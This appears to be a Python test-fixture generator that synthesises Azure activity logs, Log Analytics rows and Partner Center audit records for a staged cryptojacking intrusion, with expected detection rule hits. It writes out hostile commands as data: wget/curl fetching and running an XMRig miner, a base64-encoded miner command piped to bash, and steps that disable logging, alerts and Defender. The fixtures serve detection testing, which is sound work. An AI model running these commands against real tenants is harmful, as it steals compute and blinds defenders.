                      req=nic_request(loc, hub_subnet(S1, loc, "workload")))
        creates(o, "medium", deployment=dep_lower, details={"location": loc})
        disk = res_id(S1, "rg-ml-train", f"Microsoft.Compute/disks/gpu-train-{short}-01-data")
        o = operation(f"ml-disk-{short}", P, disk, "Microsoft.Compute/disks/write",
                      plus_ms(base, 4_560), SYNC_CREATE(3_170), corr=corr_ml,
                      req={"location": loc, "sku": {"name": "Premium_LRS"},
                           "properties": {"creationData": {"createOption": "Empty"},
                                          "diskSizeGB": 1024}})
        creates(o, "medium", deployment=dep_lower, details={"location": loc})
        vm = res_id(S1, "rg-ml-train", f"Microsoft.Compute/virtualMachines/gpu-train-{short}-01")
        req = vm_request(loc, size, nic, disk, image=IMG_DSVM, priority="Spot", ssh=False)
        o = operation(f"ml-vm-{short}", P, vm, "Microsoft.Compute/virtualMachines/write",
                      plus_ms(base, 12_075), ASYNC_CREATE(2_114, vm_done[short]), corr=corr_ml,
                      req=req, resp=vm_response(vm, req, plus_ms(base, 13_900)))
        creates(o, "high", deployment=dep_lower,
                indicators=["gpu-sku", "spot-priority", "multi-region"],
                details={"location": loc, "vm_size": size, "priority": "Spot"})
        vms[short] = (vm, loc)

    # 08:40 Custom Script extensions start the miner (one command base64-encoded).
    inner = (f"curl -fsSL {MINER_TGZ} | tar xz -C /tmp && /tmp/xmrig-6.21.0/xmrig -o {POOL_B} "
             f"-u {WALLET} -p weu01 --donate-level 1 --cuda -B")
    encoded = base64.b64encode(inner.encode()).decode()
    ext_settings = {
        "eus": {"commandToExecute": f"bash -c 'cd /tmp && wget -q {MINER_TGZ} && tar xzf "
                                    f"xmrig-6.21.0-linux-static-x64.tar.gz && nohup ./xmrig-6.21.0/"
                                    f"xmrig -o {POOL_A} -u {WALLET} -p eus01 --donate-level 1 "
                                    f"--cuda -B'"},
        "weu": {"commandToExecute": f"bash -c 'echo {encoded} | base64 -d | bash'"},
        "sea": {"fileUris": [f"http://{MINER_HOST}/k/setup-gpu.sh"],
                "commandToExecute": f"bash setup-gpu.sh --url {POOL_A} --user {WALLET} "
                                    f"--pass sea01 --donate-level 1"},
    }
    ext_times = {"eus": ("2026-10-12T08:40:12.318", 95_420), "weu": ("2026-10-12T08:42:55.064", 88_913),
                 "sea": ("2026-10-12T08:45:31.790", 121_006)}
    for short in ("eus", "weu", "sea"):
        vm, loc = vms[short]
        ext = vm + "/extensions/CustomScript"
        req = ext_request(loc, "Microsoft.Azure.Extensions", "CustomScript", "2.1",
                          ext_settings[short])
        t0, done = ext_times[short]
        o = operation(f"ml-ext-{short}", P, ext, "Microsoft.Compute/virtualMachines/extensions/write",
                      t0, ASYNC_CREATE(1_702, done), req=req, resp=ext_response(ext, req))
        creates(o, "high", parent=vm.lower(),
                indicators=["miner-command"] + (["encoded-command"] if short == "weu" else []),
                details={"location": loc, "publisher": "Microsoft.Azure.Extensions",
                         "extension_type": "CustomScript"})

    # 08:59 a Spot scale set of 20 A10 GPUs; the miner is in the model's extension profile. The
    # Start record is written at 08:59 but arrives after 09:00, so it lands in the h=09 blob.
    vmss = res_id(S1, "rg-ml-train", "Microsoft.Compute/virtualMachineScaleSets/vmss-infer-weu")
    vmss_req = {
        "location": "westeurope",
        "sku": {"name": "Standard_NV36ads_A10_v5", "tier": "Standard", "capacity": 20},
        "properties": {
            "orchestrationMode": "Uniform", "upgradePolicy": {"mode": "Manual"},
            "virtualMachineProfile": {
                "priority": "Spot", "evictionPolicy": "Delete", "billingProfile": {"maxPrice": -1},
                "osProfile": {"computerNamePrefix": "infer", "adminUsername": "azureuser",
                              "linuxConfiguration": {"disablePasswordAuthentication": False}},
                "storageProfile": {"imageReference": IMG_DSVM,
                                   "osDisk": {"createOption": "FromImage",
                                              "managedDisk": {"storageAccountType": "StandardSSD_LRS"}}},
                "networkProfile": {"networkInterfaceConfigurations": [{
                    "name": "infer-nic", "properties": {"primary": True, "ipConfigurations": [{
                        "name": "ipconfig1", "properties": {"subnet": {
                            "id": hub_subnet(S1, "westeurope", "workload")}}}]}}]},
                "extensionProfile": {"extensions": [{"name": "CustomScript", "properties": {
                    "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
                    "typeHandlerVersion": "2.1", "settings": {
                        "commandToExecute": f"bash -c 'wget -qO- {MINER_TGZ} | tar xz -C /opt && "
                                            f"/opt/xmrig-6.21.0/xmrig -o {POOL_A} -u {WALLET} "
                                            f"-p vmss --donate-level 1 --cuda -B'"}}}]}}}}
    vmss_resp = {"name": "vmss-infer-weu", "id": vmss,
                 "type": "Microsoft.Compute/virtualMachineScaleSets", "location": "westeurope",
                 "sku": vmss_req["sku"],
                 "properties": {**json.loads(json.dumps(vmss_req["properties"])),
                                "provisioningState": "Creating",
                                "uniqueId": gid("vmss-unique", vmss)}}
    vmss_resp["properties"]["virtualMachineProfile"]["billingProfile"] = {"maxPrice": -1.0}
    o = operation("ml-vmss", P, vmss, "Microsoft.Compute/virtualMachineScaleSets/write",
                  "2026-10-12T08:59:50.512", ASYNC_CREATE(2_406, 381_496), req=vmss_req,
                  resp=vmss_resp)
    creates(o, "high", indicators=["gpu-sku", "spot-priority", "miner-command"],
            details={"location": "westeurope", "vm_size": "Standard_NV36ads_A10_v5",
                     "priority": "Spot", "capacity": 20})

    # 09:18 Batch account and a low-priority GPU pool whose start task runs the miner.
    batch = res_id(S1, "rg-ml-train", "Microsoft.Batch/batchAccounts/mltrainbatcheus")
    o = operation("ml-batch", P, batch, "Microsoft.Batch/batchAccounts/write",
                  "2026-10-12T09:18:22.147", ASYNC_ACCEPTED(1_104, 24_310),
                  req={"location": "eastus", "properties": {"poolAllocationMode": "BatchService",
                                                            "publicNetworkAccess": "Enabled"}})
    creates(o, "medium", details={"location": "eastus"})
    pool = batch + "/pools/gpu-lowpri-pool"
    o = operation("ml-pool", P, pool, "Microsoft.Batch/batchAccounts/pools/write",
                  "2026-10-12T09:31:05.660", SYNC_OK(3_488),
                  req={"properties": {
                      "vmSize": "standard_nc24ads_a100_v4",
                      "deploymentConfiguration": {"virtualMachineConfiguration": {
                          "imageReference": IMG_DSVM, "nodeAgentSkuId": "batch.node.ubuntu 22.04"}},
                      "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 2,
                                                       "targetLowPriorityNodes": 8}},
                      "startTask": {
                          "commandLine": f"/bin/bash -c \"wget -q {MINER_TGZ} -O /tmp/x.tgz && "
                                         f"tar xzf /tmp/x.tgz -C /tmp && /tmp/xmrig-6.21.0/xmrig -o "
                                         f"{POOL_A} -u {WALLET} -p batch --donate-level 1 --cuda\"",
                          "userIdentity": {"autoUser": {"scope": "Pool", "elevationLevel": "Admin"}},
                          "maxTaskRetryCount": 3, "waitForSuccess": False}}})
    creates(o, "high", parent=batch.lower(), indicators=["gpu-sku", "spot-priority", "miner-command"],
            details={"location": "eastus", "vm_size": "standard_nc24ads_a100_v4",
                     "target_dedicated_nodes": 2, "target_low_priority_nodes": 8})

    # 09:44 a container group running a miner image with a GPU.
    aci = res_id(S1, "rg-ml-train", "Microsoft.ContainerInstance/containerGroups/aci-ml-infer")
    aci_req = {"location": "eastus", "properties": {
        "osType": "Linux", "restartPolicy": "Always", "sku": "Standard",
        "containers": [{"name": "infer", "properties": {
            "image": "docker.io/cryptodev0x/xmrig:latest",
            "command": ["xmrig", "-o", POOL_A, "-u", WALLET, "-p", "aci01", "--donate-level", "1",
                        "--cuda"],
            "resources": {"requests": {"cpu": 4, "memoryInGB": 16,
                                       "gpu": {"count": 1, "sku": "V100"}}}}}]}}
    aci_resp = {"id": aci, "name": "aci-ml-infer",
                "type": "Microsoft.ContainerInstance/containerGroups", "location": "eastus",
                "properties": {**json.loads(json.dumps(aci_req["properties"])),
                               "provisioningState": "Pending"}}
    o = operation("ml-aci", P, aci, "Microsoft.ContainerInstance/containerGroups/write",
                  "2026-10-12T09:44:37.391", SYNC_CREATE(6_214), req=aci_req, resp=aci_resp)
    creates(o, "high", indicators=["gpu-sku", "miner-image", "miner-command"],
            details={"location": "eastus", "image": "docker.io/cryptodev0x/xmrig:latest"})

    # ---- Concurrent ordinary work, 2026-10-13 (S2).
    st2 = res_id(S2, "rg-web-dev", "Microsoft.Storage/storageAccounts/stwebdevlogs02")
    o = operation("web-st2", U_DEVOPS, st2, "Microsoft.Storage/storageAccounts/write",
                  "2026-10-13T11:20:14.772", ASYNC_ACCEPTED(1_020, 19_804),
                  req={"sku": {"name": "Standard_LRS"}, "kind": "StorageV2",
                       "location": "westeurope",
                       "properties": {"minimumTlsVersion": "TLS1_2", "allowBlobPublicAccess": False,
                                      "supportsHttpsTrafficOnly": True}})
    creates(o, "low", details={"location": "westeurope"})

    # ---- 2026-10-14 clean-up by the service principal.
    for i, short in enumerate(("eus", "weu", "sea")):
        vm, _ = vms[short]
        o = operation(f"del-vm-{short}", P, vm, "Microsoft.Compute/virtualMachines/delete",
                      plus_ms(at("2026-10-14T06:10:03.227"), i * 6_107),
                      ASYNC_ACCEPTED(301, 45_218 + i * 3_331, ""), method="DELETE")
        deletes(o)
    o = operation("del-vmss", P, vmss, "Microsoft.Compute/virtualMachineScaleSets/delete",
                  "2026-10-14T06:12:40.015", ASYNC_ACCEPTED(388, 124_502, ""), method="DELETE")
    deletes(o)
    o = operation("del-pool", P, pool, "Microsoft.Batch/batchAccounts/pools/delete",
                  "2026-10-14T06:15:02.700", ASYNC_ACCEPTED(944, 30_117), method="DELETE")
    deletes(o)
    o = operation("del-aci", P, aci, "Microsoft.ContainerInstance/containerGroups/delete",
                  "2026-10-14T06:16:30.118", SYNC_OK(4_090), method="DELETE")
    deletes(o)
    return ra_op


# --------------------------------------------------------------------------------------------
# Detections: rule hits outside rated compute (detections.jsonl), added to the intrusion story
# --------------------------------------------------------------------------------------------

DETECTIONS = []  # (op, rule id, level, phases the rule matches: None for every phase)


def write_detection_story():
    """After the miners run, the compromised user elevates to User Access Administrator over the
    tenant (logged under S1 here), and P blinds the defenders: the subscription's diagnostic setting deleted, an
    activity-log alert disabled, the SecOps action group deleted, Defender for Servers set to
    Free. None is compute: each hit is a detection, with its rule and level."""
    U, P = U_COMPROMISED, SP_ATTACKER
    DETECTIONS.clear()
    FRIENDLY.update({
        "microsoft.authorization/elevateaccess/action": "Assigns the caller to User Access Administrator role",
        "microsoft.insights/diagnosticsettings/delete": "Delete diagnostic setting",
        "microsoft.insights/activitylogalerts/write": "Create or update activity log alert",
        "microsoft.insights/actiongroups/delete": "Delete action group",
        "microsoft.security/pricings/write": "Update pricing"})
    # Logged at the tenant root in Azure; here under S1, as the fixtures' shapes are per
    # subscription (the rule looks at the operation only).
    o = operation("det-elevate", U, f"/subscriptions/{S1}/providers/Microsoft.Authorization",
                  "Microsoft.Authorization/elevateAccess/action", "2026-10-12T10:02:11.406",
                  SYNC_OK(412), method="POST")
    DETECTIONS.append((o, "mt-priv-elevate-access", "high", None))
    o = operation("det-diag", P,
                  f"/subscriptions/{S1}/providers/microsoft.insights/diagnosticSettings/activity-to-la",
                  "Microsoft.Insights/diagnosticSettings/delete", "2026-10-12T10:05:37.118",
                  SYNC_OK(655), method="DELETE")
    DETECTIONS.append((o, "mt-evasion-diagnostic-settings", "medium", None))
    alert = res_id(S1, "rg-monitoring", "Microsoft.Insights/activityLogAlerts/alert-vm-create")
    o = operation("det-alert", P, alert, "Microsoft.Insights/activityLogAlerts/write",
                  "2026-10-12T10:06:02.940", SYNC_OK(1_204),
                  req={"location": "Global", "properties": {
                      "enabled": False, "scopes": [f"/subscriptions/{S1}"],
                      "condition": {"allOf": [{"field": "operationName",
                                               "equals": "Microsoft.Compute/virtualMachines/write"}]}}})
    DETECTIONS.append((o, "mt-evasion-alert-disabled", "high", {"Start"}))
    o = operation("det-ag", P, res_id(S1, "rg-monitoring", "Microsoft.Insights/actionGroups/ag-secops"),
                  "Microsoft.Insights/actionGroups/delete", "2026-10-12T10:06:44.371",
                  SYNC_OK(803), method="DELETE")
    DETECTIONS.append((o, "mt-evasion-alerting-removed", "high", None))
    o = operation("det-defender", P, f"/subscriptions/{S1}/providers/Microsoft.Security/pricings/VirtualMachines",
                  "Microsoft.Security/pricings/write", "2026-10-12T10:07:19.552", SYNC_OK(977),
                  req={"properties": {"pricingTier": "Free"}})
    DETECTIONS.append((o, "mt-evasion-defender-plan", "medium", None))
    DETECTIONS.append((o, "mt-evasion-defender-disabled", "high", {"Start"}))


PHASE_NAMES = {"Start": "started", "Accept": "accepted", "Success": "succeeded",
               "Failure": "failed"}


def expected_detections():
    """One entry per (record, rule) of DETECTIONS, in time order."""
    out = []
    for op, rule, level, phases in DETECTIONS:
        for ev in op["events"]:
            if phases is not None and ev["phase"] not in phases:
                continue
            out.append({"time": rfc_us(ev["time"]), "rule": rule, "level": level,
                        "operation": op["op"].lower(), "phase": PHASE_NAMES[ev["phase"]],
                        "resource_id": op["rid"].lower(), "subscription_id": rid_info(op["rid"])[0] or None,
                        "principal": op["who"].expected(), "caller_ip": op["who"].ip})
    out.sort(key=lambda d: (d["time"], d["rule"]))
    return out



# --------------------------------------------------------------------------------------------
# Per-phase vocabulary of each shape
# --------------------------------------------------------------------------------------------

REST_STATUS = {"Start": "Started", "Accept": "Accepted", "Success": "Succeeded", "Failure": "Failed"}


def substatus_localized(code):
    return f"{code} (HTTP Status Code: {HTTP_CODES[code]})" if code else ""


def result_signature(ev):
    return f"{REST_STATUS[ev['phase']]}.{ev['code']}"


def level_of(ev):
    return "Error" if ev["phase"] == "Failure" else "Informational"


def ev_rid(ev):
    return ev["rid"] if ev["phase"] == "Start" else later_phase_rid(ev["rid"])


def hierarchy(sub):
    return f"{TENANT}/{MG}/{sub}"


def base_properties(ev):
    """The `properties` map shared by exports and REST (bodies as JSON strings)."""
    p = {}
    if ev["req"] is not None:
        p["requestbody"] = cjson(ev["req"])
    if ev["phase"] != "Start":
        if ev["code"]:
            p["statusCode"] = ev["code"]
        p["serviceRequestId"] = ev["srid"]
        if ev["status_msg"] is not None:
            p["statusMessage"] = cjson(ev["status_msg"])
        if ev["resp"] is not None:
            p["responseBody"] = cjson(ev["resp"])
    sub = rid_info(ev["rid"])[0]
    p.update({"eventCategory": "Administrative", "entity": ev_rid(ev), "message": ev["op"],
              "hierarchy": hierarchy(sub)})
    return p


# ---- (a)/(d) diagnostic-settings export records ----


def export_record(ev, eventhub=False):
    rec = {}
    if eventhub:
        rec.update({"RoleLocation": "East US", "Stamp": "EUS2-FDWeb-07",
                    "ReleaseVersion": "6.2026.40.1+a1b2c3d.release_2026w40"})
    rec.update({
        "time": iso7(ev["time"]), "resourceId": ev["rid"].upper(), "operationName": ev["op"].upper(),
        "category": "Administrative", "resultType": ev["phase"],
        "resultSignature": result_signature(ev), "durationMs": ev["duration"],
        "callerIpAddress": ev["who"].ip, "correlationId": ev["corr"],
        "identity": {"authorization": {"scope": ev["rid"], "action": ev["op"],
                                       "evidence": ev["who"].evidence()},
                     "claims": ev["who"].claims(ev["time"])},
        "level": "Error" if ev["phase"] == "Failure" else "Information", "location": "global",
        "properties": base_properties(ev), "tenantId": TENANT})
    return rec


# ---- (b) REST / az CLI EventData ----


def rest_record(ev):
    rid = ev_rid(ev)
    sub, rg, ns, rtype, _ = rid_info(ev["rid"])
    props = {k: v for k, v in base_properties(ev).items()
             if k not in ("eventCategory", "entity", "message", "hierarchy")}
    return {
        "authorization": {"action": ev["op"], "scope": ev["rid"]},
        "caller": ev["who"].caller,
        "channels": "Operation",
        "claims": ev["who"].claims(ev["time"]),
        "correlationId": ev["corr"],
        "description": "",
        "eventDataId": ev["edid"],
        "eventName": {"value": "BeginRequest", "localizedValue": "Begin request"}
        if ev["phase"] == "Start" else {"value": "EndRequest", "localizedValue": "End request"},
        "category": {"value": "Administrative", "localizedValue": "Administrative"},
        "eventTimestamp": iso7(ev["time"]),
        "httpRequest": {"clientRequestId": ev["crid"], "clientIpAddress": ev["who"].ip,
                        "method": ev["method"]},
        "id": f"{rid}/events/{ev['edid']}/ticks/{ticks(ev['time'])}",
        "level": level_of(ev),
        "resourceGroupName": rg,
        "resourceProviderName": {"value": ns, "localizedValue": ns},
        "resourceId": rid,
        "resourceType": {"value": rtype, "localizedValue": rtype},
        "operationId": ev["opid"],
        "operationName": {"value": ev["op"], "localizedValue": FRIENDLY[ev["op"].lower()]},
        "properties": props,
        "status": {"value": REST_STATUS[ev["phase"]], "localizedValue": REST_STATUS[ev["phase"]]},
        "subStatus": {"value": ev["code"], "localizedValue": substatus_localized(ev["code"])},
        "submissionTimestamp": iso7(ev["sub_time"]),
        "subscriptionId": sub,
        "tenantId": TENANT,
    }


# ---- Python SDK EventData.as_dict(), dumped with json.dumps(default=str) ----

_FREE_FORM = {"claims", "properties"}


def snake(name):
    return re.sub(r"(?<!^)(?=[A-Z])", "_", name).lower()


def sdk_record(ev):
    rest = rest_record(ev)

    def conv(obj, top):
        if isinstance(obj, dict):
            return {snake(k): (v if (top and k in _FREE_FORM) else conv(v, False))
                    for k, v in obj.items()}
        return obj

    out = conv(rest, True)
    out["event_timestamp"] = str(ev["time"])  # datetime.__str__: 2026-10-12 08:03:11.123000+00:00
    out["submission_timestamp"] = str(ev["sub_time"])
    return out


# ---- (c) Log Analytics AzureActivity ----

LA_QUERY_COLUMNS = [
    ("TenantId", "string"), ("SourceSystem", "string"), ("CallerIpAddress", "string"),
    ("CategoryValue", "string"), ("CorrelationId", "string"), ("Authorization", "string"),
    ("Authorization_d", "dynamic"), ("Claims", "string"), ("Claims_d", "dynamic"),
    ("Level", "string"), ("OperationNameValue", "string"), ("Properties", "string"),
    ("Properties_d", "dynamic"), ("Caller", "string"), ("EventDataId", "string"),
    ("EventSubmissionTimestamp", "datetime"), ("HTTPRequest", "string"), ("OperationId", "string"),
    ("ResourceGroup", "string"), ("ResourceProviderValue", "string"),
    ("ActivityStatusValue", "string"), ("ActivitySubstatusValue", "string"),
    ("Hierarchy", "string"), ("TimeGenerated", "datetime"), ("SubscriptionId", "string"),
    ("OperationName", "string"), ("ActivityStatus", "string"), ("ActivitySubstatus", "string"),
    ("Category", "string"), ("ResourceId", "string"), ("ResourceProvider", "string"),
    ("Resource", "string"), ("Type", "string"), ("_ResourceId", "string"),
]

CSV_COLUMNS = [
    "$table", "TenantId", "SourceSystem", "CallerIpAddress", "CategoryValue", "CorrelationId",
    "Authorization", "Authorization_d", "Claims", "Claims_d", "Level", "OperationNameValue",
    "Properties", "Properties_d", "Caller", "EventDataId", "EventSubmissionTimestamp [UTC]",
    "HTTPRequest", "OperationId", "ResourceGroup", "ResourceProviderValue", "ActivityStatusValue",
    "ActivitySubstatusValue", "Hierarchy", "TimeGenerated [UTC]", "SubscriptionId", "OperationName",
    "ActivityStatus", "ActivitySubstatus", "Category", "ResourceId", "ResourceProvider", "Resource",
    "Type", "_ResourceId", "OperationVersion", "ResultType", "ResultSignature", "ResultDescription",
    "DurationMs", "Identity", "Location", "AdditionalDetails", "Id", "InitiatedBy",
    "LoggedByService", "Result",
]


def la_properties(ev, rich):
    """Properties of the AzureActivity row; `rich` adds the keys the portal export shows."""
    p = base_properties(ev)
    if rich:
        sub = rid_info(ev["rid"])[0]
        p.update({"caller": ev["who"].caller, "subscriptionId": sub.upper(),
                  "activityStatusValue": ev["phase"]})
        if ev["code"]:
            p["activitySubstatusValue"] = ev["code"]
    return p


def la_authorization(ev):
    return {"action": ev["op"], "scope": ev["rid"], "evidence": ev["who"].evidence()}


def la_query_row(ev, with_dynamic):
    """One row of the query API. Legacy columns are filled (as the query API returns them); the
    string columns always carry the data. With `with_dynamic` Authorization_d (the only place
    with the evidence) and Claims_d are objects; Properties_d is always null."""
    sub, rg, ns, _, name = rid_info(ev["rid"])
    props = la_properties(ev, rich=False)
    auth = la_authorization(ev)
    claims = ev["who"].claims(ev["time"])
    values = {
        "TenantId": WORKSPACE, "SourceSystem": "Azure", "CallerIpAddress": ev["who"].ip,
        "CategoryValue": "Administrative", "CorrelationId": ev["corr"],
        "Authorization": cjson({"action": ev["op"], "scope": ev["rid"]}),
        "Authorization_d": auth if with_dynamic else None,  # evidence only in the object
        "Claims": cjson(claims), "Claims_d": claims if with_dynamic else None,
        "Level": level_of(ev),
        "OperationNameValue": ev["op"].upper() if with_dynamic else ev["op"],
        "Properties": cjson(props), "Properties_d": None,
        "Caller": ev["who"].caller, "EventDataId": ev["edid"],
        "EventSubmissionTimestamp": iso3(ev["sub_time"]),
        "HTTPRequest": cjson({"clientRequestId": ev["crid"], "clientIpAddress": ev["who"].ip,
                              "method": ev["method"]}),
        "OperationId": ev["opid"], "ResourceGroup": rg, "ResourceProviderValue": ns.upper(),
        "ActivityStatusValue": ev["phase"], "ActivitySubstatusValue": ev["code"],
        "Hierarchy": hierarchy(sub), "TimeGenerated": iso3(ev["time"]), "SubscriptionId": sub,
        "OperationName": FRIENDLY[ev["op"].lower()], "ActivityStatus": REST_STATUS[ev["phase"]],
        "ActivitySubstatus": substatus_localized(ev["code"]), "Category": "Administrative",
        "ResourceId": ev_rid(ev), "ResourceProvider": ns, "Resource": name,
        "Type": "AzureActivity", "_ResourceId": ev["rid"].lower(),
    }
    return [values[c] for c, _ in LA_QUERY_COLUMNS]


def pretty_crlf(obj):
    return json.dumps(obj, indent=2, ensure_ascii=False).replace("\n", "\r\n")


def la_csv_row(ev):
    """One row of the portal CSV export: current columns filled, legacy columns empty (as in
    azureActivity_adele.csv), JSON cells pretty-printed with CRLF line breaks."""
    sub, rg, ns, _, _ = rid_info(ev["rid"])
    props = la_properties(ev, rich=True)
    auth = la_authorization(ev)
    claims = ev["who"].claims(ev["time"])
    values = {
        "$table": "AzureActivity", "TenantId": WORKSPACE, "SourceSystem": "Azure",
        "CallerIpAddress": ev["who"].ip, "CategoryValue": "Administrative",
        "CorrelationId": ev["corr"], "Authorization": pretty_crlf(auth),
        "Authorization_d": cjson(auth), "Claims": pretty_crlf(claims), "Claims_d": cjson(claims),
        "Level": level_of(ev), "OperationNameValue": ev["op"].upper(),
        "Properties": pretty_crlf(props), "Properties_d": cjson(props),
        "Caller": ev["who"].caller, "EventDataId": ev["edid"],
        "EventSubmissionTimestamp [UTC]": us_locale(ev["sub_time"]),
        "HTTPRequest": cjson({"clientIpAddress": ev["who"].ip}), "OperationId": ev["opid"],
        "ResourceGroup": rg.upper(), "ResourceProviderValue": ns.upper(),
        "ActivityStatusValue": ev["phase"], "ActivitySubstatusValue": ev["code"],
        "Hierarchy": hierarchy(sub), "TimeGenerated [UTC]": us_locale(ev["time"]),
        "SubscriptionId": sub, "Type": "AzureActivity", "_ResourceId": ev["rid"].lower(),
    }
    return [values.get(c, "") for c in CSV_COLUMNS]


# --------------------------------------------------------------------------------------------
# Partner Center audit records
# --------------------------------------------------------------------------------------------

PC_ADMIN = f"admin@{PARTNER_DOMAIN}"
PC_NEWUSER = f"svc.billing@{PARTNER_DOMAIN}"
PC_WEB_APP = gid("appid", "partner-center-web")
ORDER_S1 = gid("order", "s1")
ORDER_S2 = gid("order", "s2")
OFFER_AZURE_PLAN = "DZH318Z0BPS6:0001:DZH318Z0BLPV"


def pc_record(op_type, res_type, date7, upn, *, customer=True, new=None, old=None, data=(),
              app=PC_WEB_APP, status="succeeded"):
    t = dt.datetime.strptime(date7[:26], "%Y-%m-%dT%H:%M:%S.%f").replace(tzinfo=UTC)
    rec = {"id": f"{PARTNER}_{TENANT if customer else PARTNER}_{op_type.replace('_', '')}_{ticks(t)}",
           "partnerId": PARTNER, "participants": [PARTNER]}
    if customer:
        rec.update({"customerId": TENANT, "customerName": CUSTOMER_NAME})
    rec.update({"userPrincipalName": upn})
    if app is not None:
        rec["applicationId"] = app
    rec["resourceType"] = res_type
    if old is not None:
        rec["resourceOldValue"] = cjson(old)
    if new is not None:
        rec["resourceNewValue"] = cjson(new)
    rec.update({"operationType": op_type, "originalCorrelationId": gid("pc-corr", op_type, date7),
                "operationDate": date7, "operationStatus": status,
                "customizedData": [{"key": k, "value": v} for k, v in data],
                "attributes": {"objectType": "AuditRecord"}})
    return rec


def order_value(order_id, sub, friendly, created_local):
    links = lambda uri: {"Uri": uri, "Method": "GET", "Body": None, "Headers": []}  # noqa: E731
    return {"Id": order_id, "ReferenceCustomerId": TENANT, "BillingCycle": "monthly",
            "CurrencyCode": "EUR", "CurrencySymbol": "\u20ac",
            "LineItems": [{"LineItemNumber": 0, "ProvisioningContext": None,
                           "OfferId": OFFER_AZURE_PLAN, "SubscriptionId": sub,
                           "ParentSubscriptionId": None, "TermDuration": None,
                           "TransactionType": "New", "FriendlyName": friendly, "Quantity": 1,
                           "Pricing": None, "PartnerIdOnRecord": None, "RenewsTo": None,
                           "Links": {"Subscription": links(
                               f"/customers/{TENANT}/subscriptions/{sub}")}}],
            "CreationDate": created_local, "Status": "completed", "TransactionType": "UserPurchase",
            "Links": {"Self": links(f"/customers/{TENANT}/orders/{order_id}")},
            "Attributes": {"ObjectType": "Order"}}


def order_data(order_id, sub, friendly):
    return [("OrderId", order_id), ("BillingCycle", "Monthly"), ("OfferId-0", OFFER_AZURE_PLAN),
            ("SubscriptionId-0", sub), ("SubscriptionName-0", friendly), ("Quantity-0", "1"),
            ("PartnerOnRecord-0", None)]


def partner_records():
    s2_upper = S2.upper()  # Partner Center writes some GUIDs upper-case
    recs = [
        pc_record("add_customer", "customer", "2026-09-01T09:12:44.8812736Z", PC_ADMIN,
                  new={"Id": TENANT, "CommerceId": gid("commerce", "fabrikam"),
                       "CompanyProfile": {"TenantId": TENANT, "Domain": CUSTOMER_DOMAIN,
                                          "CompanyName": CUSTOMER_NAME,
                                          "Attributes": {"ObjectType": "CustomerCompanyProfile"}},
                       "BillingProfile": {"Id": gid("billing-profile", "fabrikam"),
                                          "FirstName": "Lena", "LastName": "Vogt",
                                          "Email": "lena.vogt@fabrikam-robotics.example",
                                          "Culture": "de-DE", "Language": "de",
                                          "CompanyName": CUSTOMER_NAME,
                                          "DefaultAddress": {"Country": "DE", "City": "Stuttgart",
                                                             "PostalCode": "70173",
                                                             "AddressLine1": "Industriestrasse 5"},
                                          "Attributes": {"ObjectType": "CustomerBillingProfile"}},
                       "RelationshipToPartner": "reseller", "AllowDelegatedAccess": True,
                       "UserCredentials": {"userName": "admin", "password": ""},
                       "Attributes": {"ObjectType": "Customer"}},
                  data=[("PrimaryDomainName", CUSTOMER_DOMAIN), ("Relationship", "Reseller")]),
        pc_record("create_order", "order", "2026-09-01T09:31:05.1934822Z", PC_ADMIN,
                  new=order_value(ORDER_S1, S1, "Fabrikam Production",
                                  "2026-09-01T02:31:01.1200000-07:00"),
                  data=order_data(ORDER_S1, S1, "Fabrikam Production")),
        pc_record("create_order", "order", "2026-09-02T10:05:17.5531027Z", PC_ADMIN,
                  new=order_value(ORDER_S2, s2_upper, "Fabrikam Dev/Test",
                                  "2026-09-02T03:05:12.4410000-07:00"),
                  data=order_data(ORDER_S2, s2_upper, "Fabrikam Dev/Test")),
        pc_record("update_customer_spending_budget", "customer", "2026-09-10T15:44:02.3319470Z",
                  PC_ADMIN, old={"Amount": 2000.0, "Attributes": {"ObjectType": "SpendingBudget"}},
                  new={"Amount": 5000.0, "Attributes": {"ObjectType": "SpendingBudget"}},
                  data=[("SpendingBudget", "5000")]),
        pc_record("create_partner_user", "partner_user", "2026-10-05T18:21:39.0043218Z", PC_ADMIN,
                  customer=False,
                  new={"Id": gid("partner-user", "svc.billing"), "UserPrincipalName": PC_NEWUSER,
                       "DisplayName": "Billing Service", "Roles": ["AdminAgent", "BillingAdmin"],
                       "Attributes": {"ObjectType": "PartnerUser"}},
                  data=[("PartnerUserId", gid("partner-user", "svc.billing")),
                        ("UserPrincipalName", PC_NEWUSER), ("Roles", "AdminAgent,BillingAdmin")]),
        pc_record("reset_customer_user_password", "customer_user", "2026-10-12T07:31:12.6619304Z",
                  PC_NEWUSER,
                  new={"Id": U_COMPROMISED.oid, "UserPrincipalName": U_COMPROMISED.upn,
                       "PasswordProfile": {"ForceChangePassword": False, "Password": "******"},
                       "Attributes": {"ObjectType": "CustomerUser"}},
                  data=[("CustomerUserId", U_COMPROMISED.oid),
                        ("UserPrincipalName", U_COMPROMISED.upn)]),
        pc_record("add_application_credential", "application_credential",
                  "2026-10-12T07:39:55.2087140Z", PC_NEWUSER,
                  new={"ApplicationId": SP_ATTACKER.appid, "KeyId": gid("key", "sp-secret"),
                       "Type": "Password", "StartDate": "2026-10-12T07:39:55Z",
                       "EndDate": "2028-10-12T07:39:55Z",
                       "Attributes": {"ObjectType": "ApplicationCredential"}},
                  data=[("ApplicationId", SP_ATTACKER.appid), ("KeyId", gid("key", "sp-secret")),
                        ("CredentialType", "Password")]),
        pc_record("increase_spending_limit", "spending_limit", "2026-10-12T08:26:48.7735519Z",
                  PC_NEWUSER, old={"SubscriptionId": S1, "Limit": 5000.0},
                  new={"SubscriptionId": S1, "Limit": 50000.0},
                  data=[("SubscriptionId", S1), ("OldLimit", "5000"), ("NewLimit", "50000")]),
        pc_record("update_customer_spending_budget", "customer", "2026-10-12T08:27:30.1180442Z",
                  PC_NEWUSER, old={"Amount": 5000.0, "Attributes": {"ObjectType": "SpendingBudget"}},
                  new={"Amount": 60000.0, "Attributes": {"ObjectType": "SpendingBudget"}},
                  data=[("SpendingBudget", "60000")]),
    ]
    return recs


def pc_expected(rec):
    subs = []
    for d in rec["customizedData"]:
        if re.fullmatch(r"SubscriptionId(-\d+)?", d["key"]) and d["value"]:
            if d["value"].lower() not in subs:
                subs.append(d["value"].lower())
    new = json.loads(rec.get("resourceNewValue", "{}"))
    for li in new.get("LineItems", []):
        if li.get("SubscriptionId") and li["SubscriptionId"].lower() not in subs:
            subs.append(li["SubscriptionId"].lower())
    order = next((d["value"].lower() for d in rec["customizedData"] if d["key"] == "OrderId"), None)
